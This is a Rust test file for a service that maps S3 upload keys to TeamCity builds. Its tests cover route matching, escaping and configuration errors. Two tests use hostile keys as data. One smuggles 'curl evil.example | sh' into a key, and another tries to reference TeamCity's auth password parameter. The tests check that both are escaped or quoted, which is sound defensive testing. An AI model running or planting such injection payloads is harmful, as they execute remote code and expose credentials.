//! Keys with letters in decomposed form, percent signs and shell code, folder markers, and keys that routes read.

use serde_json::{Value, json};
use stand_ins::teamcity::Build;

use crate::setup::{BUILD_TYPE, Setup, counts, event, reasons, record, records};

/// Sends the event to a function with one route, and returns the builds.
async fn builds_by(route: Value, event: &Value) -> Vec<Build> {
    let setup = Setup::new().await;
    setup.deploy_routes(&json!([route]));
    setup.invoke(event).await;
    setup.teamcity.builds()
}

#[tokio::test]
async fn a_decomposed_key_matches_a_composed_route_and_reaches_teamcity_unchanged() {
    let upload = event("decomposed-korean-key");
    let conditions = [
        json!({"prefix": "누수 신고/", "suffix": ".csv"}),
        json!({"key": "누수 신고/{name}.csv"}),
    ];
    for mut route in conditions {
        route["build_type"] = json!(BUILD_TYPE);
        let builds = builds_by(route.clone(), &upload).await;
        assert_eq!(builds.len(), 1, "{route}");
        let key = &builds[0].properties["eventKey"];
        assert!(key.starts_with("\u{1102}\u{116e}\u{1109}\u{116e} "), "{key}");
    }
}

#[tokio::test]
async fn percent_signs_of_the_key_are_escaped_and_references_of_the_operator_are_not() {
    let route = json!({"build_type": BUILD_TYPE, "branch": "{file_name}",
                       "properties": {"env.OUT": "%build.counter%/{file_name}", "env.PLAIN": "%build.number%"}});
    let builds = builds_by(route, &event("percent-signs-in-key")).await;
    let properties = &builds[0].properties;
    let escaped = "%%system.teamcity.auth.password%% 50%%.csv";
    assert_eq!(properties["eventKey"], format!("in/{escaped}"));
    assert_eq!(properties["env.OUT"], format!("%build.counter%/{escaped}"));
    assert_eq!(properties["env.PLAIN"], "%build.number%");
    assert_eq!(builds[0].branch.as_deref(), Some(escaped));
}

#[tokio::test]
async fn shell_code_in_a_key_reaches_only_the_parameters_that_the_readme_quotes() {
    let route = json!({"build_type": BUILD_TYPE, "properties": {"env.UPLOAD_KEY": "{key}"}});
    let builds = builds_by(route, &event("shell-code-in-key")).await;
    let key = r#"in/"; curl evil.example | sh #.csv"#;
    assert_eq!(builds[0].properties["env.UPLOAD_KEY"], key);
    let readme = include_str!("../../README.md");
    let example = readme.split("```json").nth(1).unwrap();
    assert!(
        example
            .split("```")
            .next()
            .unwrap()
            .contains(r#""env.UPLOAD_KEY": "{key}""#),
        "the README's first example"
    );
    assert!(
        readme.contains(r#""$UPLOAD_KEY""#),
        "the README quotes the variable"
    );
}

#[tokio::test]
async fn a_folder_marker_queues_nothing_unless_a_route_asks_for_it() {
    let setup = Setup::new().await;
    let response = setup.invoke(&event("folder-marker")).await;
    assert_eq!(reasons(&response), ["folder"]);
    assert!(setup.teamcity.builds().is_empty());
    setup.deploy_routes(&json!([{"build_type": BUILD_TYPE, "folders": true}]));
    assert_eq!(counts(&setup.invoke(&event("folder-marker")).await), (1, 0));
    let mut empty = record("in/_SUCCESS", "0A");
    empty["s3"]["object"]["size"] = json!(0);
    setup.deploy("BUILD_COMMENT", "by hand");
    assert_eq!(counts(&setup.invoke(&records([empty])).await), (1, 0));
}

#[tokio::test]
async fn a_route_reads_branch_and_properties_from_the_key() {
    let route = json!({"key": "in/{branch}/{name}.zip", "build_type": BUILD_TYPE, "branch": "release/{branch}",
                       "properties": {"env.NAME": "{name}", "reverse.dep.*.source": "{branch}"}});
    let builds = builds_by(
        route,
        &records([record("in/1.0/a+b.zip", "0A"), record("in/c.zip", "0B")]),
    )
    .await;
    assert_eq!(builds.len(), 1);
    assert_eq!(builds[0].branch.as_deref(), Some("release/1.0"));
    assert_eq!(builds[0].properties["env.NAME"], "a b");
    assert_eq!(builds[0].properties["reverse.dep.*.source"], "1.0");
}

#[tokio::test]
async fn a_route_that_continues_lets_later_routes_match_too() {
    let setup = Setup::new().await;
    setup.deploy_routes(&json!([
        {"prefix": "in/", "suffix": [".csv", ".tsv"], "build_type": BUILD_TYPE, "branch": "main", "continue": true},
        {"prefix": "in/", "build_type": BUILD_TYPE, "branch": "next", "continue": true},
        {"build_type": "Other_Build"},
    ]));
    let upload = records([record("in/a.tsv", "0A")]);
    assert_eq!(counts(&setup.invoke(&upload).await), (3, 0));
    assert_eq!(counts(&setup.invoke(&upload).await), (0, 3));
    let builds = setup.teamcity.builds();
    let mut branches: Vec<_> = builds.iter().map(|build| build.branch.as_deref()).collect();
    branches.sort_unstable();
    assert_eq!(branches, [None, Some("main"), Some("next")]);
}

#[tokio::test]
async fn a_key_that_s3_did_not_encode_is_a_fault() {
    let setup = Setup::new().await;
    let (error_type, message) = setup.invoke_failing(&event("not-encoded-key")).await;
    assert_eq!(error_type, "InvalidEvent");
    assert!(
        message.contains("not URL-encoded") && !message.contains("C++"),
        "{message}"
    );
}

#[tokio::test]
async fn routes_that_cannot_match_fail_the_init() {
    let setup = Setup::new().await;
    let routes = json!([
        {"build_type": "A", "suffix": "*.csv"},
        {"build_type": "A", "events": ["ObjectCreated:Putt"]},
        {"build_type": "{type}", "key": "{type}/{rest*}"},
        {"build_type": "A", "coalesce": true, "properties": {"env.X": "{key}"}},
    ]);
    setup.deploy_routes(&routes);
    let (error_type, message) = setup.invoke_failing(&event("direct")).await;
    assert_eq!(error_type, "ConfigurationError");
    for fault in [
        "BUILD_ROUTES[0].suffix: compared literally",
        "BUILD_ROUTES[1].events: S3 has no event",
        "BUILD_ROUTES[2].build_type: expected the id",
        "BUILD_ROUTES[3].properties.env.X: {key} names one upload",
    ] {
        assert!(message.contains(fault), "{fault:?} is not in: {message}");
    }
    let removals = json!([{"build_type": "A", "events": ["ObjectRemoved:*"]}]);
    let function = setup.function_with_routes(&removals);
    setup
        .emulator
        .deploy(function.variable("UPLOAD_EVENT_TYPES", "Object Created"));
    let (_, message) = setup.invoke_failing(&event("direct")).await;
    assert!(message.contains("ObjectRemoved is never delivered"), "{message}");
}

#[tokio::test]
async fn a_prefix_with_a_leading_slash_is_accepted_with_a_warning() {
    let setup = Setup::new().await;
    setup.deploy_routes(&json!([{"build_type": BUILD_TYPE, "prefix": "/in/"}]));
    assert_eq!(reasons(&setup.invoke(&event("direct")).await), ["no_route"]);
    assert!(
        setup
            .logs()
            .contains("BUILD_ROUTES[0] matches keys that begin with /"),
        "{}",
        setup.logs()
    );
}
